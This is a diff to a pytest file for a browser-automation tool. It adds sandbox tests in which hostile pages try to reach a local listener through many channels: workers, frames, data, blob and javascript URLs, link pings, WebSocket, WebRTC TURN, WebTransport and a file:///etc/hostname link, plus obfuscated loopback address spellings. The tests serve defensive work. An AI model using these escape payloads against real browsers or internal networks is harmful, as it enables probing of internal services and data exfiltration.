@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import socket
+import threading
 from collections.abc import AsyncGenerator, Iterator, Sequence
-from contextlib import asynccontextmanager
+from contextlib import asynccontextmanager, suppress
 
 import pytest
 from tests.plugins.browser.site import Answer, Site, serving
@@ -99,6 +101,119 @@ async def test_what_a_page_does_reaches_no_other_place_of_this_machine(
     assert other.asked == before
     for tab in told.splitlines()[1:]:
         await hands.done("close_tab", tab_id=tab.split()[1])
+
+
+# Pages that try harder: each holds LEAK where the other server's place belongs.
+ESCAPES = {
+    "service worker": "navigator.serviceWorker.register('/sw.js')",
+    "shared worker": "new SharedWorker('/sw.js')",
+    "worker": "new Worker('/sw.js')",
+    "module": "import('http://LEAK/leak')",
+    "redirected part": "fetch('/away')",
+    "redirected frame": "body.append(Object.assign(make('iframe'), {src: '/away'}))",
+    "refresh": "body.append(Object.assign(make('iframe'), {srcdoc: '<meta http-equiv=refresh content=\"0;url=http://LEAK/leak\">'}))",
+    "frame within": "body.append(Object.assign(make('iframe'), {srcdoc: `<script>fetch('http://LEAK/leak', {mode: 'no-cors'})<${''}/script>`}))",
+    "data frame": "body.append(Object.assign(make('iframe'), {src: `data:text/html,<img src=http://LEAK/leak>`}))",
+    "blob window": "open(URL.createObjectURL(new Blob(['<img src=http://LEAK/leak>'], {type: 'text/html'})))",
+    "javascript window": "open(`javascript:fetch('http://LEAK/leak')`)",
+    "object": "body.append(Object.assign(make('object'), {data: 'http://LEAK/leak'}))",
+    "embed": "body.append(Object.assign(make('embed'), {src: 'http://LEAK/leak'}))",
+    "sound": "new Audio('http://LEAK/leak').play()",
+    "style": "body.append(Object.assign(make('style'), {textContent: `@import 'http://LEAK/leak'; body { background: url(http://LEAK/leak) }`}))",
+    "preconnect": "document.head.append(Object.assign(make('link'), {rel: 'preconnect', href: 'http://LEAK/'}))",
+    "icon": "document.head.append(Object.assign(make('link'), {rel: 'icon', href: 'http://LEAK/leak'}))",
+    "manifest": "document.head.append(Object.assign(make('link'), {rel: 'manifest', href: 'http://LEAK/leak'}))",
+    "speculation": "document.head.append(Object.assign(make('script'), {type: 'speculationrules', "
+    "textContent: JSON.stringify({prerender: [{urls: ['http://LEAK/leak']}], prefetch: [{urls: ['http://LEAK/leak']}]})}))",
+    "ping": "const a = Object.assign(make('a'), {href: '#x', ping: 'http://LEAK/leak'}); body.append(a); a.click()",
+    "download": "const a = Object.assign(make('a'), {href: 'http://LEAK/leak', download: 'x'}); body.append(a); a.click()",
+    "file link": "const a = Object.assign(make('a'), {href: 'file:///etc/hostname'}); body.append(a); a.click()",
+    "secure socket": "new WebSocket('wss://LEAK/leak')",
+    "turn": "const urls = ['turn:LEAK?transport=tcp', 'turn:LEAK?transport=udp']; "
+    "const c = new RTCPeerConnection({iceServers: [{urls, username: 'a', credential: 'b'}, "
+    "{urls: 'stun:LEAK'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
+    "transport": "new WebTransport('https://LEAK/leak')",
+}
+PLACES = {
+    "another address": "127.0.0.2:{port}",
+    "short": "127.2:{port}",
+    "number": "2130706434:{port}",
+    "octal": "0177.0.0.2:{port}",
+    "any": "0.0.0.0:{port}",
+    "name": "localhost:{port}",
+    "mapped": "[::ffff:127.0.0.2]:{port}",
+    "dotted name": "localhost.:{port}",
+}
+
+
+@pytest.fixture(scope="module")
+def listening() -> Iterator[tuple[int, list[object]]]:
+    """A port where whoever comes, by TCP or UDP, to any address of this machine, is noted."""
+    came: list[object] = []
+    with socket.create_server(("0.0.0.0", 0)) as stream, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
+        port = stream.getsockname()[1]
+        packets.bind(("0.0.0.0", port))
+
+        def accept() -> None:
+            with suppress(OSError):
+                while True:
+                    connection, whence = stream.accept()
+                    connection.close()
+                    came.append(whence)
+
+        def receive() -> None:
+            with suppress(OSError):
+                while (packet := packets.recvfrom(2048))[0] != b"end":
+                    came.append(packet)
+
+        threads = [threading.Thread(target=accept, daemon=True), threading.Thread(target=receive, daemon=True)]
+        for thread in threads:
+            thread.start()
+        yield port, came
+        packets.sendto(b"end", ("127.0.0.1", port))
+        stream.shutdown(socket.SHUT_RDWR)
+        for thread in threads:
+            thread.join()
+
+
+async def attempted(hands: Hands, site: Site, script: str, leak: str) -> None:
+    """A page that does it by itself as it is loaded, then is clicked, then has had its time."""
+    tried = script.replace("LEAK", leak)
+    site.pages["/away"] = Answer("", 302, {"location": f"http://{leak}/leak"})
+    site.pages["/sw.js"] = Answer(
+        f"fetch('http://{leak}/leak', {{mode: 'no-cors'}})", headers={"content-type": "text/javascript"}
+    )
+    site.pages["/hostile"] = (
+        f"<!doctype html><title>Hostile</title><body><button id=b>Go</button><script>"
+        f"const {{body}} = document, make = n => document.createElement(n);"
+        f"const go = () => {{ {tried} }}; b.onclick = go; try {{ go() }} catch {{}}</script>"
+    )
+    # Where it leads away at once, that is refused.
+    await hands.call("open_tab", site.url("/hostile"))
+    assert "/hostile" in site.asked
+    await hands.call("click", name="Go")
+    await hands.call("wait", until="network", timeout=2)
+    for tab in (await hands.done("list_tabs"))["content"].splitlines()[1:]:
+        assert "file:" not in tab
+        await hands.done("close_tab", tab_id=tab.split()[1])
+
+
+@pytest.mark.parametrize("script", ESCAPES.values(), ids=ESCAPES.keys())
+async def test_a_hostile_page_gets_no_byte_out(
+    hands: Hands, site: Site, listening: tuple[int, list[object]], script: str
+) -> None:
+    port, came = listening
+    await attempted(hands, site, script, f"127.0.0.2:{port}")
+    assert came == []
+
+
+@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
+async def test_however_a_place_is_written_it_is_not_reached(
+    hands: Hands, site: Site, listening: tuple[int, list[object]], place: str
+) -> None:
+    port, came = listening
+    await attempted(hands, site, "fetch('http://LEAK/leak', {mode: 'no-cors'})", place.format(port=port))
+    assert came == []
 
 
 async def test_what_was_refused_is_told(hands: Hands, site: Site) -> None:
